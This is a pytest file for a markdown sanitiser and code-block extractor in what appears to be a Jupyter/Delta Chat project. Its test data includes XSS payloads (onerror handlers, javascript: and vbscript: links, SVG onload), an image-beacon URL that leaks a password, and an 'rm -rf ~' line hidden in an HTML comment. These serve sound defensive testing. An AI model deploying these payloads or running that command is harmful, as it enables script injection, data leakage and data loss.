"""``neutralize`` and ``extract_code`` over the payload corpus (tests/security/payloads.json),
checked by ``payload_corpus.unsafe_parts``, which does not use the neutraliser."""

from __future__ import annotations

from typing import Any

import pytest
from payload_corpus import PAYLOAD_IDS, PAYLOADS, payload, payload_markdown, unsafe_parts

from jupyter_deltachat import safe_markdown
from jupyter_deltachat.kernel.cell_output import extract_code
from jupyter_deltachat.safe_markdown import MAX_DATA_IMAGE_CHARS, code_blocks, neutralize

DOT_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg=="
)


def test_the_checker_sees_what_the_review_found() -> None:
    raw = payload_markdown(payload("remote-image")) + "\n\n<img src=x onerror=alert(1)>"
    assert unsafe_parts(raw + "\n\n[x](javascript:alert(1))") == [
        "<img src='http://127.0.0.1:9/pixel.gif?d=my%20db%20password%20is%20hunter2'>",
        "<img onerror='alert(1)'>",
        "<img src='x'>",
        "<a href='javascript:alert(1)'>",
    ]


@pytest.mark.parametrize("entry", PAYLOADS, ids=PAYLOAD_IDS)
def test_no_payload_survives_and_kept_text_is_exact(entry: dict[str, Any]) -> None:
    safe = neutralize(payload_markdown(entry))
    assert unsafe_parts(safe) == []
    for kept in entry["keep"]:
        assert kept in safe
    assert neutralize(safe) == safe


@pytest.mark.parametrize(
    "entry_id",
    [
        "keep-code-span-html",
        "keep-fenced-html",
        "keep-indented-code",
        "keep-python-fence",
        "keep-display-math",
        "keep-markdown",
        "keep-small-data-png",
        "keep-relative-link",
        "keep-comparison-text",
        "md-unmatched-backticks",
        "md-tilde-fence-unclosed",
    ],
)
def test_markdown_without_html_is_left_exactly_as_it_is(entry_id: str) -> None:
    markdown = payload_markdown(payload(entry_id))
    assert neutralize(markdown) == markdown


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("a <img src=x onerror=alert(1)> b", "a &lt;img src=x onerror=alert(1)> b"),
        ("<div>\n\n![x](http://h.test/in.png)\n\n</div>", (
            "&lt;div>\n\n[image: x (h.test)](http://h.test/in.png)\n\n&lt;/div>"
        )),
        ("Status: ![](http://127.0.0.1:9/p.gif?d=a%20b)", (
            "Status: [image (127.0.0.1:9)](http://127.0.0.1:9/p.gif?d=a%20b)"
        )),
        ("![logo][l]\n\n[l]: https://h.test/x(1).png", (
            "[image: logo (h.test)](https://h.test/x\\(1\\).png)\n\n[l]: https://h.test/x(1).png"
        )),
        ("![a *b* <i>](//h.test/c.png)", "[image: a b \\<i\\> (h.test)](//h.test/c.png)"),
        ("\\<b> \\\\<i>", "\\<b> \\\\&lt;i>"),
        ("![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)", (
            "image: x image: y"
        )),
        (f"![dot]({DOT_PNG})", f"![dot]({DOT_PNG})"),
        ("[open](JavaScript:alert(1)) [b][r]\n\n[r]: vbscript:x", "open b\n\n[r]: vbscript:x"),
        ("[ok](https://h.test/) <https://h.test/a> <a@h.test>", (
            "[ok](https://h.test/) <https://h.test/a> <a@h.test>"
        )),
        ("<javascript:alert(1)> [c](&#x6A;avascript:alert(1))", "&lt;javascript:alert(1)> c"),
        ("$a<b$ and $$\n0<x\n$$ and `<b>`", "$a\\lt b$ and $$\n0\\lt x\n$$ and `<b>`"),
        ("> q <b>x</b>\n> `<i>`", "> q &lt;b>x&lt;/b>\n> `<i>`"),
        ("| <b> | `<i>` |\n|---|---|\n| ![t](http://h.test/t.png) | y |", (
            "| &lt;b> | `<i>` |\n|---|---|\n| [image: t (h.test)](http://h.test/t.png) | y |"
        )),
        ("| `<b>` | <b> |\n|---|---|\n| a | b |", "| `<b>` | &lt;b> |\n|---|---|\n| a | b |"),
        ("# `<b>` <b> #\n\nSetext <b>\n`<i>` <i>\n===", (
            "# `<b>` &lt;b> #\n\nSetext &lt;b>\n`<i>` &lt;i>\n==="
        )),
        ("> - a `<b>` <b>\n>   `<c>` <c>", "> - a `<b>` &lt;b>\n>   `<c>` &lt;c>"),
        ("a\r\nb\0", "a\nb\ufffd"),
    ],
)  # fmt: skip
def test_exact_rewrites(markdown: str, expected: str) -> None:
    assert neutralize(markdown) == expected


def test_data_images_only_small_raster_ones() -> None:
    small = "data:image/gif;base64," + "A" * (MAX_DATA_IMAGE_CHARS - 22)
    big = small + "A"
    assert neutralize(f"![s]({small})") == f"![s]({small})"
    assert neutralize(f"![b]({big})") == "image: b"
    for media_type in ("image/svg+xml", "text/html", "image/png-but-not"):
        assert neutralize(f"![x](data:{media_type},x)") == "image: x"


def test_html_hidden_by_a_backtick_inside_an_attribute_is_escaped_too() -> None:
    markdown = '<a title="`">  `<img src=x onerror=alert(1)>`'
    safe = neutralize(markdown)
    assert unsafe_parts(safe) == []
    assert safe == '&lt;a title="`">  `&lt;img src=x onerror=alert(1)>`'


@pytest.mark.parametrize("entry", [e for e in PAYLOADS if e["code"] is not None], ids=str)
def test_extract_code_takes_only_real_code_blocks(entry: dict[str, Any]) -> None:
    assert extract_code(payload_markdown(entry)) == entry["code"]


def test_code_blocks_in_order_with_their_language() -> None:
    markdown = "<!--\n```sh\nrm -rf ~\n```\n-->\n\n```Python extra\nx = 1\n```\n\n    y = 2\n"
    assert code_blocks(markdown) == [("python", "x = 1\n"), ("", "y = 2\n")]
    assert extract_code("<div>\n```python\nsteal()\n```\n</div>\n") == (
        "<div>\n```python\nsteal()\n```\n</div>"
    )


def test_a_reply_that_does_not_settle_is_shown_as_one_code_block(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The last resort: when the passes do not settle, the whole reply is code, not HTML."""
    monkeypatch.setattr(safe_markdown, "MAX_PASSES", 1)
    markdown = "```x```\n<img src=x onerror=alert(1)>"
    assert neutralize(markdown) == f"````text\n{markdown}\n````"
    assert unsafe_parts(neutralize(markdown)) == []
